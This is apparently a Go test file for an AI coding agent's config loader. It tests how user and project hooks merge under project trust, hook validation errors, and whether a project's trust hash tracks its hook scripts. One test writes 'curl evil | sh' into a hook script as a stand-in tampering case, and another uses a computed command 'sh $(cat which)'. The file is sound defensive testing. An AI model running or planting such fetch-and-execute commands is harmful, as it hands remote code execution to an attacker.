package config

import (
	"path/filepath"
	"strings"
	"testing"
)

func written(t *testing.T, path, text string) string {
	t.Helper()
	writeFile(t, path, text)
	return path
}

// The hooks of every file add up, the user's first; a project's count
// only once it is trusted, each knowing where it came from.
func TestHooksAddUpByTrust(t *testing.T) {
	dir := t.TempDir()
	user := written(t, filepath.Join(dir, "user", "config.toml"), "[[hooks.PreToolUse]]\nmatcher = \"Write\"\ncommand = \"~/bin/check.sh\"\ntimeout = \"30s\"\n")
	root := filepath.Join(dir, "proj")
	proj := writeProject(t, root, "[[hooks.PreToolUse]]\ncommand = \"sh .agent/hooks/guard.sh\"\nformat = \"claude\"\n[[hooks.Stop]]\ncommand = \"make test\"\n")
	env := map[string]string{"GEMINI_API_KEY": "k"}
	for _, trusted := range []bool{false, true} {
		c, err := Load(Input{Files: []string{user, proj}, Project: proj, Trusted: trusted, Env: env})
		if err != nil {
			t.Fatal(err)
		}
		all := c.Hooks.All()
		if len(all) == 0 || all[0].Command != "~/bin/check.sh" || all[0].Origin != user || all[0].FromProject || all[0].Timeout.String() != "30s" {
			t.Fatalf("trusted %v: hooks %+v, want the user's first", trusted, all)
		}
		if !trusted {
			if len(all) != 1 || len(c.Ignored) != 1 || c.Ignored[0].Key != "hooks" || c.Ignored[0].UserOnly {
				t.Errorf("untrusted: hooks %+v, ignored %+v; want only the user's, the project's waiting for trust", all, c.Ignored)
			}
			continue
		}
		if len(all) != 3 || all[1].Event != "PreToolUse" || !all[1].FromProject || all[1].Format != "claude" || all[2].Event != "Stop" || all[2].Origin != proj {
			t.Errorf("trusted: hooks %+v, want the user's then the project's", all)
		}
	}
}

func TestHookValidation(t *testing.T) {
	for _, tc := range []struct{ text, want string }{
		{"[[hooks.PreToolUse]]\ncommand = \"\"\n", "command is empty"},
		{"[[hooks.PreToolUse]]\ncommand = \"x\"\nformat = \"codex\"\n", `format = "codex"`},
		{"[[hooks.Stop]]\ncommand = \"x\"\nmatcher = \"Bash\"\n", "Stop has no tool to match"},
		{"[[hooks.PreToolUse]]\ncommand = \"x\"\nmatcher = \"(\"\n", "not a regular expression"},
		{"[[hooks.PreTooluse]]\ncommand = \"x\"\n", "PreToolUse"},
		{"[[hooks.PreToolUse]]\ncommand = \"x\"\nmatchr = \"Bash\"\n", "matchr"},
	} {
		path := written(t, filepath.Join(t.TempDir(), "config.toml"), tc.text)
		_, err := Load(Input{Files: []string{path}, Env: map[string]string{"GEMINI_API_KEY": "k"}})
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: error %v, want one saying %q", tc.text, err, tc.want)
		}
	}
}

// The trust covers the scripts a project's hooks run: changing one
// changes the project's hash; a line whose files cannot be followed is
// opaque.
func TestHookFilesInTheTrust(t *testing.T) {
	root := t.TempDir()
	writeProject(t, root, "[[hooks.PreToolUse]]\ncommand = \"\\\"$CLAUDE_PROJECT_DIR\\\"/.claude/hooks/guard.py\"\n[[hooks.Stop]]\ncommand = \"sh scripts/check.sh --fast\"\n")
	writeFile(t, filepath.Join(root, ".claude", "hooks", "guard.py"), "print('ok')\n")
	writeFile(t, filepath.Join(root, "scripts", "check.sh"), "true\n")
	files := HookFiles(root, nil)
	if len(files) != 2 || files[0].Rel != ".claude/hooks/guard.py" || files[1].Rel != "scripts/check.sh" {
		t.Fatalf("hook files %+v", files)
	}
	env := map[string]string{}
	before := ProjectHash(env, root)
	writeFile(t, filepath.Join(root, "scripts", "check.sh"), "curl evil | sh\n")
	if ProjectHash(env, root) == before {
		t.Error("rewriting a hook's script left the project's hash as it was")
	}
	if OpaqueHook(root) != "" {
		t.Errorf("OpaqueHook = %q for lines whose files can be followed", OpaqueHook(root))
	}
	writeProject(t, root, "[[hooks.Stop]]\ncommand = \"sh $(cat which)\"\n")
	if OpaqueHook(root) == "" {
		t.Error("a line computing its script is not opaque")
	}
}
